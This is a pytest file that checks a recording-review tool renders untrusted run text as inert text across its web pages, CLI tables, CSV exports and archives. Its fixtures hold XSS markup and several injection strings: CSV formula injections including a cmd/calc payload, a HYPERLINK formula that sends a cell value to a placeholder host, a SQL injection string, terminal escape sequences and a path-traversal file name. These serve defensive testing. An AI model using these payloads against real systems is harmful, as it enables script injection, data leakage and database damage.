"""Texts of a stranger's recording are shown as texts: on pages, in exports, in tables and in Rerun they do nothing."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from recording_samples import scene_problem
from rerun.chunk import RrdReader
from run_rows import some_row

from spherloc.estimators import estimate
from spherloc_viz.app.review.card import comparison_html
from spherloc_viz.app.review.export import bundle, summary_html
from spherloc_viz.app.review.filters import Counts, Look, filters_html
from spherloc_viz.app.review.rows import DESK, rows_html
from spherloc_viz.app.web.access import sorry_page
from spherloc_viz.app.web.viewer import viewer_page
from spherloc_viz.recording.content.writer import write_recording
from spherloc_viz.recording.index.query import RunQuery
from spherloc_viz.recording.index.run_index import RunIndex
from spherloc_viz.recording.index.run_text import counts_text, rows_text
from spherloc_viz.recording.origin import Origin
from spherloc_viz.recording.review_file import write_review
from spherloc_viz.recording.reviews import review_path
from spherloc_viz.recording.run_row import RunRow
from spherloc_viz.recording.sandbox.examiner import examine

pytestmark = pytest.mark.usefixtures("own_examiner")

NOW = datetime(2026, 1, 2, tzinfo=UTC)
CALM = some_row(
    "run.rrd",
    created="2026-01-01T12:00:00.000+00:00",
    scene="scene",
    name="name",
    query="query",
    options='{"a": 1, "b": "x"}',
    summary="summary",
    message="message",
    title="title",
    labels=("label",),
    note="note",
    thumbnail=b"",
)
FREE = ("scene", "name", "query", "summary", "message", "title", "note")
"""Texts in which anything may stand."""

MARKUP = """<script>alert(1)</script><img src=x onerror="alert(1)">'">&lt;<!--<svg/onload=alert(1)>]]></style><b """
FORMULA = '=HYPERLINK("http://example.org/"&A1,"x")'
ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31mred\r\n\x00\x9b1m\u202egnp.exe\u2028\u2066"
TEMPLATE = "${script} $title {0} {sentence} %s %(a)s {{x}}"
HOSTILE = (
    MARKUP,
    FORMULA,
    ESCAPES,
    TEMPLATE,
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "'; DROP TABLE runs; --",
)


def hostile_row(text: str) -> RunRow:
    """Hostile wherever a stranger's recording can be, and where only a hostile index can be: outcome, estimator …"""
    texts: dict[str, Any] = dict.fromkeys((*FREE, "estimator", "outcome", "diagnosis", "source", "run_id"), text)
    return replace(CALM, **texts, labels=(text,), options=json.dumps({text: text}))


class Shape(HTMLParser):
    """Elements with the names of their attributes, and what a press does, as a browser understands a text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, ...]] = []
        self.texts: list[str] = []
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, *(name for name, _ in attrs)))
        self.texts += [value or "" for _, value in attrs]
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "data-program")]

    def handle_endtag(self, tag: str) -> None:
        self.elements.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment",))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("declaration",))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def pages(row: RunRow) -> dict[str, str]:
    """Every page and part of one that shows a row."""
    other = replace(row, estimator=f"{row.estimator}2", options=json.dumps({"a": row.name}), problem_key="2")
    groups = ((row.diagnosis, 3), (row.name, 2))
    look = Look(text=row.name, diagnosis=row.diagnosis, estimator=row.name, unfolded="estimator")
    return {
        "list": rows_html([row, other], frozenset((row.file,)), row.file, 2, look, NOW),
        "filters": filters_html(look, Counts(2, (("failure", 1),), groups, 0, groups)),
        "comparison": comparison_html(row, other),
        "export": summary_html([row, other], row.name, NOW),
        "viewer": viewer_page(row.file, row, 3, "0.1", "step"),
        "error": sorry_page(row.message),
    }


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_pages_have_the_same_elements_whatever_the_texts_are(hostile: str) -> None:
    calm = pages(hostile_row("calm"))
    for name, html in pages(hostile_row(hostile)).items():
        shape = Shape(html)
        assert shape.elements == Shape(calm[name]).elements, name
        if hostile == MARKUP:
            assert any(MARKUP[-40:] in text for text in shape.texts), f"{name} shows it as text"


def test_no_address_leaves_the_page() -> None:
    for name, html in pages(hostile_row('https://example.org/"><a href="https://example.org/')).items():
        for address in Shape(html).addresses:
            assert address == DESK or address.startswith(("/viewer/", "data:")), (name, address)


# ---------------------------------------------------------------------------------------------- tables


def is_calm(text: str) -> bool:
    return all(character.isprintable() or character == "\n" for character in text)


def is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_tables_of_the_command_line_move_no_cursor_and_compute_nothing(hostile: str) -> None:
    row = hostile_row(hostile)
    for form in ("table", "json", "csv"):
        assert is_calm(rows_text(Path("recordings"), [row, CALM], form))
        assert is_calm(counts_text("label", [(hostile, 1), ("calm", 2)], form))
    assert len(rows_text(Path("recordings"), [row], "table").splitlines()) == len(
        rows_text(Path("recordings"), [CALM], "table").splitlines()
    )
    (told,) = json.loads(rows_text(Path("recordings"), [row], "json"))
    assert told["note"] == hostile and told["labels"] == [hostile]


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_tables_for_spreadsheets_hold_no_formula(hostile: str) -> None:
    row = hostile_row(hostile)
    tables = [
        rows_text(Path("recordings"), [row, CALM], "csv"),
        counts_text("label", [(hostile, 1), ("calm", 2)], "csv"),
    ]
    for table in tables:
        rows = list(csv.reader(io.StringIO(table)))
        assert len(rows) == 3 and len({len(cells) for cells in rows}) == 1
        assert not [cell for cells in rows for cell in cells if is_formula(cell)]


# ---------------------------------------------------------------------------------------------- through a file


IMAGE = "![x](http://example.org/a.png) <b>| # `code` | $x$ [y](javascript:alert(1))"


def texts_of(path: Path) -> list[str]:
    """Every text document of a recording, as a viewer shows it."""
    reader = RrdReader(path)
    found: list[str] = []
    for chunk in reader.stream(store=reader.recordings()[0]):
        batch = chunk.to_record_batch()
        if "TextDocument:text" in batch.schema.names:
            found += [text for cell in batch.column("TextDocument:text").to_pylist() for text in cell or ()]
    return found


def test_documents_of_a_recording_have_no_markup_of_a_scene(tmp_path: Path) -> None:
    problem = replace(scene_problem("mei_outliers_80"), name=IMAGE, scene=IMAGE, remarks=(IMAGE,))
    trace = replace(estimate(problem, "ransac-2p"), message=IMAGE)
    path = tmp_path / "run.rrd"
    write_recording(trace, path, Origin("gallery", title=IMAGE, story=IMAGE))
    write_review(path, ["![x](http://example.org/)"], IMAGE)
    documents = texts_of(path) + texts_of(review_path(path))
    lines = [line for text in documents for line in text.splitlines() if "example.org" in line]
    assert len(lines) >= 5
    for line in lines:
        shown = re.sub(r"^(#+|-|\*\*) ?", "", line).removesuffix("**")
        assert not re.search(r"(?<!\\)[\][`<>#$!]", shown), line


def test_a_hostile_run_is_examined_listed_found_and_exported_as_it_is(tmp_path: Path) -> None:
    folder = tmp_path / "recordings"
    problem = replace(scene_problem("mei_outliers_80"), name=MARKUP, scene="'; DROP TABLE runs; --")
    trace = replace(estimate(problem, "ransac-2p"), message=ESCAPES)
    write_recording(trace, folder / "run.rrd", Origin("gallery", title=FORMULA, story=MARKUP))
    write_review(folder / "run.rrd", [FORMULA, "<b>"], MARKUP)
    row = examine(folder / "run.rrd")
    assert (row.name, row.message, row.title) == (MARKUP, ESCAPES, FORMULA)
    assert set(row.labels) == {FORMULA, "<b>"} and row.note == MARKUP.strip()
    with RunIndex(folder) as index:
        index.add(row)
        for text in ("'; DROP TABLE", "%", "_", '"', "<script>", "\x00"):
            found = index.find(RunQuery(text=text)).rows
            assert found == ((row,) if text in f"{row.scene}\n{row.name}\n{row.message}" else ())
        assert index.find(RunQuery(scene=row.scene, label=FORMULA)).rows == (row,)
        assert dict(index.groups(RunQuery(), "label")) == {FORMULA: 1, "<b>": 1}
        packed = tmp_path / "runs.zip"
        bundle(packed, folder, [row, replace(row, file="../run.rrd")], 2, NOW, lambda: False)
    with zipfile.ZipFile(packed) as archive:
        names = archive.namelist()
        assert set(names) == {"recordings/run.rrd", "recordings/run.review.rrd", "index.html", "runs.csv"}
        page = archive.read("index.html").decode()
    assert "<script" not in page.lower() and "default-src &#x27;none&#x27;" not in page
    assert "content=\"default-src 'none'" in page
